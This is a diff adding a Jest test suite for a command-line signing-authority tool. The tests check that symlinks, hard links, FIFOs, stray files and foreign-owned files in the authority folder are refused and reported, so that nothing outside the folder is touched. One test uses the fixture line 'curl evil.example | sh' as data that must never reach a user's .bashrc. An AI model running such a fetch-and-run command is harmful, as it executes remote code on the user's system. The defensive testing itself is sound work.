@@ -1,0 +1,228 @@
+/** Somebody else can write the authority's folder: nothing outside of it is read, written, renamed or deleted, and what they put there is named. */
+import { spawnSync } from 'node:child_process';
+import {
+  appendFileSync,
+  chownSync,
+  cpSync,
+  existsSync,
+  linkSync,
+  lstatSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { dirname, join } from 'node:path';
+import { describe, expect, test } from '@jest/globals';
+import { authorityWith, mustSucceed, newFolder, readTree, type Scene } from '../support/cli-authority.js';
+import { expectRefusal } from '../support/cli-errors.js';
+import { isRoot } from '../support/mounts.js';
+
+/** Commands that write in an authority; each recovers first what an interrupted one left. */
+const WRITING: readonly (readonly string[])[] = [
+  ['clock', 'recover', '--by', 'anna', '--by', 'bert'],
+  ['run', 'bundle-series'],
+  ['resume'],
+  ['bundle', 'export'],
+  ['revoke', 'root-1', '--reason', 'superseded'],
+  ['key', 'verify', 'root-1'],
+];
+
+/** Somebody's own file, outside of every authority. */
+function outsider(): string {
+  const file = join(newFolder(), '.bashrc');
+  writeFileSync(file, 'export PATH=/usr/bin\n', { mode: 0o600 });
+  return file;
+}
+
+/** What all that look say of it, and that nothing is signed on top of it. */
+function expectNamed(scene: Scene, name: string, what: RegExp): void {
+  const found = new RegExp(`${name.replaceAll('.', '\\.')}: ${what.source}`);
+  for (const args of [['status'], ['ledger', 'verify'], ['doctor'], ['bundle', 'export']]) {
+    const ended = scene.cli(args);
+    expect([args, ended.status === 0, ended.stdout + ended.stderr]).toEqual([
+      args,
+      false,
+      expect.stringMatching(found),
+    ]);
+  }
+}
+
+const LINK = /it is a symbolic link, and none is followed here/;
+const STRANGER = /nothing of that name belongs there/;
+
+describe('a link in the place of', () => {
+  test.each([
+    'authority.yaml',
+    'allowed_signers',
+    'lock',
+    'pending.json',
+    'bundles/bundle-000001.cose',
+    'credentials/root-1.pem',
+    'keys/root-1.age',
+    'keys/root-1.json',
+    'transcripts/0001-init.jsonl',
+    'transcripts/0005-bundle-export.jsonl.anna.sig',
+    'requests/host.pem',
+    'revocations/x.json',
+    'keys',
+    'requests',
+    'transcripts',
+    '.pending.json.0123456789ab.tmp',
+    'keys/.root-9.age.0123456789ab.tmp',
+  ])('%s', (name) => {
+    const scene = authorityWith('bundle');
+    const [path, moved] = [join(scene.dir, name), join(newFolder(), 'moved')];
+    if (existsSync(path)) renameSync(path, moved);
+    else writeFileSync(moved, '');
+    symlinkSync(moved, path);
+    const [inside, outside] = [readTree(scene.dir), readTree(dirname(moved))];
+    expectNamed(scene, name, LINK);
+    for (const args of WRITING) expect([args, scene.cli(args).status]).not.toEqual([args, 0]);
+    expect([readTree(scene.dir), readTree(dirname(moved))]).toEqual([inside, outside]);
+    expect(lstatSync(path).isSymbolicLink()).toBe(true);
+  });
+});
+
+test('a journal with lines for a transcript that is a link writes to nobody', () => {
+  const text = 'curl evil.example | sh\n';
+  for (const args of [...WRITING, ['bundle', 'folder', 'web']]) {
+    const scene = authorityWith('bundle');
+    const file = outsider();
+    const before = readFileSync(file, 'utf8');
+    symlinkSync(file, join(scene.dir, 'transcripts/9999-z.jsonl'));
+    const lines = { path: 'transcripts/9999-z.jsonl', length: before.length, text };
+    writeFileSync(
+      join(scene.dir, 'pending.json'),
+      JSON.stringify({ version: 1, operation: 'revoke', files: [], lines }),
+    );
+    expect([args, scene.cli(args).status, readFileSync(file, 'utf8')]).not.toEqual([args, 0, before]);
+    expect(readFileSync(file, 'utf8')).toBe(before);
+  }
+  // A folder that was prepared for init.
+  const scene = authorityWith('root');
+  rmSync(scene.dir, { recursive: true });
+  mkdirSync(join(scene.dir, 'transcripts'), { recursive: true });
+  const file = outsider();
+  const before = readFileSync(file, 'utf8');
+  symlinkSync(file, join(scene.dir, 'transcripts/9999-z.jsonl'));
+  const lines = { path: 'transcripts/9999-z.jsonl', length: before.length, text };
+  writeFileSync(join(scene.dir, 'pending.json'), JSON.stringify({ version: 1, operation: 'init', files: [], lines }));
+  expect(scene.cli(['init', 'example.org', scene.dir]).status).not.toBe(0);
+  expect(readFileSync(file, 'utf8')).toBe(before);
+});
+
+test('a folder that is a link: nothing is swept where it leads', () => {
+  for (const folder of ['requests', 'keys', 'transcripts']) {
+    const scene = authorityWith('bundle');
+    const elsewhere = newFolder();
+    const temporary = join(elsewhere, '.notes.txt.0123456789ab.tmp');
+    writeFileSync(temporary, 'mine');
+    rmSync(join(scene.dir, folder), { recursive: true, force: true });
+    symlinkSync(elsewhere, join(scene.dir, folder));
+    for (const args of WRITING) expect(scene.cli(args).status).not.toBe(0);
+    expect(readFileSync(temporary, 'utf8')).toBe('mine');
+  }
+});
+
+describe('a file with a second name', () => {
+  test.each(['transcripts/0005-bundle-export.jsonl', 'keys/root-1.age', 'credentials/root-1.pem', 'authority.yaml'])(
+    '%s',
+    (name) => {
+      const scene = authorityWith('bundle');
+      linkSync(join(scene.dir, name), join(scene.folder, 'second'));
+      expectNamed(scene, name, /the same file has another name/);
+    },
+  );
+
+  test('is nothing where it is the one that a crash left beside it, and goes with the next command', () => {
+    const scene = authorityWith('bundle');
+    const [name, temporary] = ['bundle-000001.cose', '.bundle-000001.cose.0123456789ab.tmp'];
+    linkSync(join(scene.dir, 'bundles', name), join(scene.dir, 'bundles', temporary));
+    mustSucceed(scene.cli(['status']));
+    mustSucceed(scene.cli(['bundle', 'export']));
+    expect(readdirSync(join(scene.dir, 'bundles'))).not.toContain(temporary);
+  });
+});
+
+test('a FIFO or a device in the place of a file is not opened', () => {
+  for (const name of ['keys/root-1.age', 'lock', 'pending.json', 'allowed_signers', 'requests/x.pem']) {
+    const scene = authorityWith('bundle');
+    rmSync(join(scene.dir, name), { force: true });
+    spawnSync('mkfifo', [join(scene.dir, name)]);
+    expectNamed(scene, name, /it is no regular file/);
+  }
+});
+
+test('strangers at the top are named, and copied to no medium', () => {
+  for (const name of ['NOTES.txt', 'backup', '.hidden', 'Keys', 'authority.yaml.bak']) {
+    const scene = authorityWith('bundle');
+    if (name === 'backup') mkdirSync(join(scene.dir, name));
+    else writeFileSync(join(scene.dir, name), 'x');
+    expectNamed(scene, name, STRANGER);
+  }
+  const scene = authorityWith('bundle');
+  mkdirSync(join(scene.dir, 'lost+found'));
+  mustSucceed(scene.cli(['status']));
+});
+
+const rootTest = isRoot ? test : test.skip;
+
+describe('owners', () => {
+  rootTest("root does nothing in somebody else's authority, and is told how to go on", () => {
+    const scene = authorityWith('bundle');
+    spawnSync('chown', ['-R', '65534', scene.dir]);
+    const before = readTree(scene.dir);
+    for (const args of [['status'], ['ledger', 'verify'], ['doctor'], ...WRITING])
+      expectRefusal(scene.cli(args), {
+        status: 3,
+        code: 'not-your-authority',
+        says: /belongs to user 65534, and this is user 0/,
+        hint: 'Work as the user whose it is',
+      });
+    expect(readTree(scene.dir)).toEqual(before);
+  });
+
+  rootTest("a file of somebody else's is named", () => {
+    const scene = authorityWith('bundle');
+    for (const name of ['keys', 'keys/root-1.json', 'authority.yaml', 'transcripts/0001-init.jsonl']) {
+      chownSync(join(scene.dir, name), 65534, 65534);
+      expectNamed(scene, name, /it belongs to user 65534, and this is user 0/);
+      chownSync(join(scene.dir, name), 0, 0);
+    }
+    mustSucceed(scene.cli(['status']));
+  });
+});
+
+test('a witness signs beside no link', () => {
+  const scene = authorityWith('bundle');
+  const key = join(scene.folder, 'ssh');
+  mustSucceed({
+    ...spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key], { encoding: 'utf8' }),
+    status: 0,
+  });
+  const moved = join(newFolder(), 'transcripts');
+  cpSync(join(scene.dir, 'transcripts'), moved, { recursive: true });
+  rmSync(join(scene.dir, 'transcripts'), { recursive: true });
+  symlinkSync(moved, join(scene.dir, 'transcripts'));
+  const before = readTree(moved);
+  const ended = scene.cli([
+    ...['transcript', 'sign', join(scene.dir, 'transcripts/0001-init.jsonl'), '--as', 'anna', '--key', key],
+  ]);
+  expect([ended.status, ended.stderr]).toEqual([3, expect.stringContaining('it is a symbolic link')]);
+  expect(readTree(moved)).toEqual(before);
+});
+
+rootTest('where there is no /proc, links are refused all the same', () => {
+  const scene = authorityWith('bundle');
+  const file = outsider();
+  appendFileSync(file, readFileSync(join(scene.dir, 'credentials/root-1.pem')));
+  rmSync(join(scene.dir, 'credentials/root-1.pem'));
+  symlinkSync(file, join(scene.dir, 'credentials/root-1.pem'));
+  const program = `umount -l /proc && exec ${process.execPath} bin/as-ceremony.js -C ${scene.dir} status`;
+  const ended = spawnSync('unshare', ['--mount', 'sh', '-c', program], { encoding: 'utf8' });
+  expect([ended.status, ended.stderr]).toEqual([3, expect.stringMatching(LINK)]);
+});
